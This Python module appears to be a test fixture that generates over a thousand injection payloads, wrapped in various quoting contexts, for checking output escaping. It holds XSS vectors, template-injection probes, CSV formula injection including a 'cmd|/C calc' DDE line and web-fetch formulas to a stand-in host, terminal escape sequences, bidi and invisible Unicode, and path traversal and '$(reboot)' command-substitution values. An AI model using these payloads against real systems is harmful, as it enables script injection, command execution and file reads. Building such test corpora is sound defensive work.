"""Texts that try to act where they are shown: in HTML, Markdown, CSV, a terminal, a path: over a thousand, our own.

Each way of acting stands alone, in the places that escaping forgets (an attribute, a cell, a link), and wrapped in what
filters look past.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

MARK: Final = "owned-7c1"
"""What a text that acts would leave behind: the argument of each `alert`, the host of each address."""
_URL: Final = f"https://{MARK}.test/x"

_HTML: Final = (
    f"<script>alert('{MARK}')</script>",
    f"<img src=x onerror=alert('{MARK}')>",
    f"<svg onload=alert('{MARK}')>",
    f"<svg><animate onbegin=alert('{MARK}') attributeName=x dur=1s>",
    f"<iframe srcdoc=\"<script>alert('{MARK}')</script>\"></iframe>",
    f"<iframe src=\"javascript:alert('{MARK}')\"></iframe>",
    f"<body onload=alert('{MARK}')>",
    f"<details open ontoggle=alert('{MARK}')>",
    f"<input autofocus onfocus=alert('{MARK}')>",
    f"<video><source onerror=alert('{MARK}')></video>",
    f"<math><mtext><style><img src=x onerror=alert('{MARK}')></style></mtext></math>",
    f'<meta http-equiv="refresh" content="0;url={_URL}">',
    f'<base href="{_URL}">',
    f'<link rel="stylesheet" href="{_URL}.css">',
    f"<style>@import '{_URL}.css'; body {{ background: url({_URL}) }}</style>",
    f'<form action="{_URL}"><button>press</button></form>',
    f'<object data="{_URL}"></object><embed src="{_URL}">',
    f'<a href="{_URL}">see here</a>',
    "</title></style></textarea></pre><h1>over</h1>",
    f"<!--><script>alert('{MARK}')</script>-->",
    f"&lt;script&gt;alert('{MARK}')&lt;/script&gt;",
    f"\uff1cscript\uff1ealert('{MARK}')\uff1c/script\uff1e",
)
_ATTRIBUTES: Final = (
    f"\" onmouseover=alert('{MARK}') x=\"",
    f"' autofocus onfocus=alert('{MARK}') x='",
    f"`onload=alert('{MARK}')`",
    f"javascript:alert('{MARK}')",
    f"java\tscript:alert('{MARK}')",
    f"\x01javascript:alert('{MARK}')",
    f"data:text/html,<script>alert('{MARK}')</script>",
    f"vbscript:msgbox('{MARK}')",
    f"//{MARK}.test/x",
    "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
)
_MARKDOWN: Final = (
    f"[click]({_URL})",
    f"![x]({_URL}.png)",
    f"<{_URL}>",
    _URL,
    f"[x]: {_URL} 'y'",
    f"[click](javascript:alert('{MARK}'))",
    "# heading\n===\n---",
    "```\nout of the fence\n```",
    "~~~\nout\n~~~",
    "`code` **bold** _em_ ~~s~~ <b>b</b>",
    "| a | b |\n|---|---|\n| c | d |",
    "- [ ] task\n1. one\n> quote",
    "\\`\\`\\` \\| \\[",
    "@channel @here @everyone <!channel> <@U012345>",
    "$\\href{javascript:alert(1)}{x}$",
    "    indented code",
)
_CSV: Final = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    f'=HYPERLINK("{_URL}","x")',
    f'=IMPORTXML("{_URL}","//a")',
    f'=WEBSERVICE("{_URL}")',
    "=cmd|'/C calc'!A0",
    "|cmd",
    "%0A=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    '"=1+1',
    '","=1+1',
    "a;=1+1;b",
    'a";=1+1;"b',
    "a\t=1+1",
    "\uff1d1+1",
    "\uff0b1\uff0d1",
    "\u200b=1+1",
    "\ufeff=1+1",
)
_TERMINAL: Final = (
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    f"\x1b]8;;{_URL}\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;b3duZWQ=\x07",
    "\x1b[31mred\x1b[0m",
    "\x9b2J",
    "\x1b[6n",
    "\x1bP+q544e\x1b\\",
    "a\x08\x08\x08b",
    "first\rsecond",
    "one\ntwo\x0bthree\x0cfour",
    "\x00\x07\x7f",
    "[red]markup[/red] [link=https://x.test]x[/link] :smile: [/]",
)
_UNSEEN: Final = (
    "\u202egpj.exe",
    "a\u2066b\u2069c",
    "zero\u200bwidth\u200c\u200d",
    "soft\u00adhyphen",
    "\ufeffbom",
    "line\u2028and\u2029paragraph",
    "next\x85line",
    "tag\U000e0041\U000e007f",
    "variant\ufe0f",
    "hangul\u3164filler\uffa0",
    "mongolian\u180e",
    "\ud800lone",
    "invisible\u2062times",
    "\u061carabic",
)
_PATHS: Final = (
    "../../../etc/passwd",
    "/etc/cron.d/x",
    "..\\..\\windows\\x",
    "C:\\x",
    "a/../b",
    "con.txt",
    ".bashrc",
    "-rf",
    "$(reboot)",
    "`reboot`",
    "; reboot #",
    "a\x00b.json",
    "%2e%2e%2f",
    "x\u2044y",
)
_FAMILIES: Final = (_HTML, _ATTRIBUTES, _MARKDOWN, _CSV, _TERMINAL, _UNSEEN, _PATHS)
_WRAPPINGS: Final = (
    "{}",
    "gcc -o {} a.c",
    '"{}"',
    "'>{}",
    '">{}',
    "`{}`",
    "]({})",
    "\n{}\n",
    "{0}{0}",
    "\u202e{}",
    "x" * 140 + "{}",
)


def all_of_them() -> Iterator[str]:
    """Each text in each wrapping."""
    for family in _FAMILIES:
        for text in family:
            for wrapping in _WRAPPINGS:
                # By hand: `format` would read the braces of the texts.
                yield wrapping.replace("{0}", text).replace("{}", text)


PAYLOADS: Final = tuple(dict.fromkeys(all_of_them()))
